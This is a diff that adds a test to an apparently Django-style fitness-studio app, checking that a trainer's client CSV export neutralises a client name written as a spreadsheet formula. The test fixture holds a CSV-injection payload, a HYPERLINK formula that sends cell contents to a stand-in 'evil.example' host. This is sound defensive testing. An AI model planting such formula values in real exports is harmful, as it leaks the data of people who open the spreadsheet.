@@ -171,6 +171,19 @@ def test_a_trainer_page_lists_their_clients_at_risk_first_and_exports_them(studi
     )
 
 
+def test_a_client_named_like_a_formula_is_exported_inert(studio, figures):
+    # given a client who named themself so that a spreadsheet would run their name
+    sly = ClientFactory(first_name='=HYPERLINK("https://evil.example/?"&A1', last_name="+1")
+    ClientTrainerFactory(client=sly, trainer=figures["mine"])
+    page = signed_in(studio, figures["mine"])
+    url = f"/analytics/trainers/{figures['mine'].pk}/?start=2026-06-09&end=2026-06-09&export=clients"
+    # when their trainer exports the client list
+    rows = list(csv.reader(io.StringIO(page.get(url).content.decode())))
+    # then the name is text in the spreadsheet, not a formula
+    [name] = [row[0] for row in rows[1:] if "HYPERLINK" in row[0]]
+    assert name.startswith("'=HYPERLINK")
+
+
 def test_a_session_older_than_two_weeks_is_no_longer_rated(figures, clock, api_client):
     person = ClientFactory()
     old = attended(person, figures["mine"])
